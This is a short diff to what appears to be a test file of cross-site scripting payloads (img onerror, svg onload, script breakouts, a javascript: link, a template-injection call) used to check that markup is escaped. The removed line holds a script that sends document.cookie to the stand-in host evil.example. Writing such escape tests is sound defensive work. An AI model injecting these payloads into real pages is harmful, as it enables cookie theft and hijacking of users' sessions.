@@ -18,7 +18,7 @@ import { SAME_SITE } from './api-calls';
 const NAME = '<img src=x onerror=alert(1)>';
 const CITY = '"><svg onload=alert(document.domain)>';
 const ABOUT = '</script><script>alert(1)</script><a href="javascript:alert(1)">me</a>';
-const MESSAGE = '<script>fetch("//evil.example/?c="+document.cookie)</script>{{constructor.constructor("alert(1)")()}}';
+const MESSAGE = '<script>fetch(document.cookie)</script>{{constructor.constructor("alert(1)")()}}';
 const PAYLOADS = [NAME, CITY, ABOUT, MESSAGE];
 
 /** Raw markup of a payload that must never appear unescaped in HTML. */
